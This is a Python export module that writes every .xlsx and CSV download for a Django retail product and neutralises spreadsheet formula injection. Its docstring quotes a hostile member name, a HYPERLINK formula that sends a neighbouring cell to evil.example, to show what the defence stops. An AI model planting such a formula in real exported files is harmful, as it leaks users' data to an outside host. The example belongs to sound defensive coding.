"""The one writer of every file the product hands out for download (.xlsx and CSV).

Two promises, kept here so that a new export cannot forget them:

1. **No cell starts a formula from data.** A member may be named
   `=HYPERLINK("http://evil.example/?x="&A1,"点击")` (a till types whatever it is given). Written
   with a plain openpyxl `cell.value = text`, that is a live formula: opening the file sends the
   neighbouring cell to evil.example. Here every text is a text:
   - .xlsx: a string cell (data type ``s``, never ``f``), and a text that begins with one of
     ``= + - @``, a tab or a carriage return also gets Excel's "quote prefix" style, so editing
     the cell in Excel or WPS keeps it text. The text itself is unchanged: the name is exported
     exactly as the member is named.
   - CSV (a CSV has no types: Excel, WPS and LibreOffice evaluate any field that looks like a
     formula): OWASP's neutralisation, a single quote ``'`` put before a field that begins with
     one of those characters (``'=HYPERLINK(...)``). A field that is a plain number (``-12.50``)
     is left alone: it cannot be a formula and must stay a number.
   Control characters that XML cannot hold (``\\x00``-``\\x1f`` but tab, newline, return) become
   U+FFFD instead of failing the whole export.

2. **Numbers are numbers.** A figure is written as a number with a number format (`money`,
   `count`, `rate`, ...), never as pre-formatted text such as ``"1,100"``: finance adds the
   column up. Text that reads as a number is allowed only in columns that hold identifiers by
   nature, decided by the column's header (`is_identifier_header`): phones, card numbers,
   member numbers, receipt and reference numbers, codes (store, coupon, template, employee).
   `tests/core/test_exports_walk.py` opens every export and holds every export to both.

Exports build a `Book`, add `sheet()`s and `header()` / `row()` them; values are plain Python
values (str, int, Decimal, date, datetime, bool, None) or a `Value` made by `money()`,
`count()`, `rate()`, ... carrying the number format. django-import-export's admin exports go
through `SafeXLSX` / `SafeCSV` (settings.EXPORT_FORMATS). A test (`tests/core/
test_one_export_writer.py`) fails on any module but this one that writes .xlsx or CSV itself.
"""

import csv
import io
import re
from dataclasses import dataclass
from datetime import date, datetime, time
from decimal import Decimal, InvalidOperation

from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv"

# What a spreadsheet takes as the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Number formats, one per kind of figure.
MONEY = "#,##0.00"  # 14,154.24
COUNT = "#,##0"  # 1,100 (people, points, visits, coupons)
RATE = "0.0%"  # 12.3%
WHOLE = "0"  # a row number, a day index: no thousands separator
DATE = "yyyy-mm-dd"
MONTH = "yyyy-mm"
MINUTE = "yyyy-mm-dd hh:mm"
SECOND = "yyyy-mm-dd hh:mm:ss"


def decimals(places):
    """The format of a plain figure with `places` decimals (0.0, 0.00, 0.000000)."""
    return "0." + "0" * places if places else WHOLE


# Headers (in Chinese and in English, as the export is written) of the columns whose values
# are identifiers: text by nature, though they may read as numbers. A Chinese word counts
# anywhere in the header (手机号, 手机号码, 联系电话, 推荐人手机号 are all phones), an English one
# as a whole word ("Home store", not "Stored value"); a header that names a count, an amount or
# a rate (门店数, 充值金额, 用券率) is never an identifier.
IDENTIFIER_HEADER_WORDS = (
    # phones
    "手机", "电话",
    # card, member, employee numbers
    "卡号", "会员号", "会员编号", "工号",
    # receipts, refunds and other references
    "小票", "单号", "凭证", "参考号",
    # codes: stores (store columns hold a store's code or name), coupons, templates, batches
    "编码", "券码", "门店", "批次",
)  # fmt: skip
IDENTIFIER_HEADER_ENGLISH = re.compile(
    r"\b(phone|card no|member no|employee no|receipt|reference|refund no|code|store|batch)\b"
)
FIGURE_HEADER_ENDINGS = ("数", "数量", "额", "率", "(元)", "（元）", "count", "amount", "rate")


def is_identifier_header(title):
    """Whether a column headed `title` holds identifiers (kept as text even when they read as
    numbers): phones, card / member / employee numbers, receipts, codes, stores."""
    text = str(title or "").strip().lower()
    if not text or text.endswith(FIGURE_HEADER_ENDINGS):
        return False
    return any(word in text for word in IDENTIFIER_HEADER_WORDS) or bool(
        IDENTIFIER_HEADER_ENGLISH.search(text)
    )


_NUMBER = re.compile(
    r"""^[+-]?\s*[¥￥]?\s*[+-]?
        (?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?   # 1,100 / 1100 / 169.83
        |[+-]?\s*[¥￥]?\s*[+-]?\.\d+            # .5
    """,
    re.VERBOSE,
)


def parse_number(text):
    """The number a text reads as (thousands separators, ¥ / ￥ and a trailing % allowed):
    "1,100" -> 1100, "¥169.83" -> 169.83, "12.5%" -> 0.125; None when it is not one."""
    if not isinstance(text, str):
        return None
    value = text.strip()
    share = value.endswith("%")
    if share:
        value = value[:-1].rstrip()
    if not value or not _NUMBER.fullmatch(value):
        return None
    digits = re.sub(r"[\s,¥￥]", "", value)
    if digits.count("-") + digits.count("+") > 1:
        return None
    try:
        number = Decimal(digits)
    except InvalidOperation:
        return None
    return number / 100 if share else number


def looks_numeric(text):
    return parse_number(text) is not None


# --- values ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Value:
    """A cell's value with its number format (and whether it is bold)."""

    value: object
    number_format: str | None = None
    bold: bool = False


def money(value):
    return Value(value, MONEY)


def count(value):
    return Value(value, COUNT)


def rate(value):
    return Value(value, RATE)


def figure(value, places):
    return Value(value, decimals(places))


def when(value, number_format=MINUTE):
    return Value(value, number_format)


def day(value):
    return Value(value, DATE)


def text(value):
    """Force text: an identifier that must never become a number."""
    return Value("" if value is None else str(value))


def verbatim(value, header):
    """A value echoed from an uploaded file (an error report's original cells): as the file
    had it, except that text reading as a number in a column that is not an identifier column
    becomes that number (a CSV has only text), so the report's figures are figures too."""
    if isinstance(value, str) and not is_identifier_header(header):
        number = parse_number(value)
        if number is not None:
            if value.strip().endswith("%"):
                return rate(number)
            if number == number.to_integral_value() and "." not in value:
                return count(int(number))
            return money(number)
    return value


def problem_row(row_no, reason, values, headers):
    """A row of an error report (the member import's, a bulk job's): the file's row number,
    the reason, then the row's cells as the file had them (`verbatim` under `headers`)."""
    echoed = [
        verbatim(value, headers[i] if i < len(headers) else "") for i, value in enumerate(values)
    ]
    return [Value(row_no, WHOLE) if row_no else "", reason, *echoed]


def _plain(value):
    """A value openpyxl can store: text as str, aware datetimes in Shanghai time without a
    zone (Excel has none), Decimals as they are."""
    from django.utils import timezone
    from django.utils.functional import Promise

    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)
        return value
    if isinstance(value, date | time):
        return value
    if isinstance(value, Promise):
        value = str(value)
    return value if isinstance(value, str) else str(value)


def _default_format(value):
    if isinstance(value, datetime):
        return SECOND
    if isinstance(value, date):
        return DATE
    return None


class Sheet:
    """A write-only sheet: rows go out as they are added (exports stream big querysets)."""

    def __init__(self, worksheet):
        self._sheet = worksheet

    def cell(self, value, number_format=None, bold=False, size=None):
        if isinstance(value, Value):
            number_format = value.number_format or number_format
            bold = bold or value.bold
            value = value.value
        value = _plain(value)
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
        cell = WriteOnlyCell(self._sheet, value=value)
        if isinstance(value, str):
            # openpyxl makes any text that begins with "=" a formula: never from data.
            cell.data_type = "s"
            if value.startswith(FORMULA_STARTS):
                cell.quotePrefix = True
        elif value is not None:
            number_format = number_format or _default_format(value)
            if number_format:
                cell.number_format = number_format
        if bold or size:
            cell.font = Font(bold=bold, size=size)
        return cell

    def row(self, values, bold=False):
        self._sheet.append([self.cell(value, bold=bold) for value in values])

    def header(self, titles):
        """A header row: bold text (the walk of every export reads headers by it)."""
        self.row([text(title) for title in titles], bold=True)

    def title(self, title):
        self._sheet.append([self.cell(text(title), bold=True, size=12)])

    def blank(self):
        self._sheet.append([])

    def widths(self, widths):
        """Column widths, {column number from 1: width}; before the first row."""
        from openpyxl.utils import get_column_letter

        for number, width in widths.items():
            self._sheet.column_dimensions[get_column_letter(number)].width = width


class Book:
    """A write-only .xlsx workbook of `Sheet`s."""

    def __init__(self):
        self._book = Workbook(write_only=True)
        self._titles = set()

    def sheet(self, title):
        return Sheet(self._book.create_sheet(title=self._title(title)))

    def _title(self, title):
        # Excel: at most 31 characters, none of []:*?/\ and unique in the book.
        clean = "".join("_" if ch in "[]:*?/\\" else ch for ch in str(title))[:31] or "Sheet"
        candidate, n = clean, 2
        while candidate in self._titles:
            suffix = f" ({n})"
            candidate, n = clean[: 31 - len(suffix)] + suffix, n + 1
        self._titles.add(candidate)
        return candidate

    def save(self, target):
        """Write to `target`: a path or a file-like object (an HttpResponse included)."""
        self._book.save(target)

    def to_bytes(self):
        out = io.BytesIO()
        self._book.save(out)
        return out.getvalue()

    def response(self, filename):
        """The workbook as a download."""
        return download(self.to_bytes(), filename, XLSX_CONTENT_TYPE)


def attachment(filename, content_type=XLSX_CONTENT_TYPE):
    """An empty download response named `filename`, for a `Book` to be saved into."""
    from django.http import HttpResponse

    response = HttpResponse(content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def download(content, filename, content_type=XLSX_CONTENT_TYPE):
    """`content` (bytes) as a download named `filename`."""
    response = attachment(filename, content_type)
    response.content = content
    return response


def one_sheet(title, header, rows):
    """A `Book` of one sheet: a bold header, then `rows`."""
    book = Book()
    sheet = book.sheet(title)
    sheet.header(header)
    for values in rows:
        sheet.row(values)
    return book


# --- CSV -------------------------------------------------------------------------------------


_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def csv_field(value):
    """A value as a CSV field no spreadsheet evaluates: text that begins with = + - @, a tab or
    a carriage return gets a leading single quote (plain numbers such as -12.50 stay)."""
    if isinstance(value, Value):
        value = value.value
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, datetime | date | time):
        return value.isoformat(sep=" ") if isinstance(value, datetime) else value.isoformat()
    value = str(value)
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def write_csv(rows, target):
    """`rows` (iterables of values) as CSV to the text stream `target`, every field through
    `csv_field`."""
    writer = csv.writer(target)
    for values in rows:
        writer.writerow([csv_field(value) for value in values])


# --- django-import-export --------------------------------------------------------------------


class SafeXLSX(base_formats.XLSX):
    """django-import-export's .xlsx, written by `Book` (a bold header row, text never a
    formula) instead of tablib's writer, which makes a formula of any text beginning "="."""

    def export_data(self, dataset, **kwargs):
        from django.utils.translation import gettext

        title = dataset.title or gettext("Export")
        return one_sheet(title, dataset.headers or [], dataset).to_bytes()


# The library keeps values native (numbers as numbers) only for the formats it lists as binary,
# recognised by their exact class.
base_formats.BINARY_FORMATS.append(SafeXLSX)


class SafeCSV(base_formats.CSV):
    """django-import-export's CSV with every field through `csv_field`."""

    def export_data(self, dataset, **kwargs):
        out = io.StringIO()
        write_csv([dataset.headers or [], *dataset], out)
        return out.getvalue()
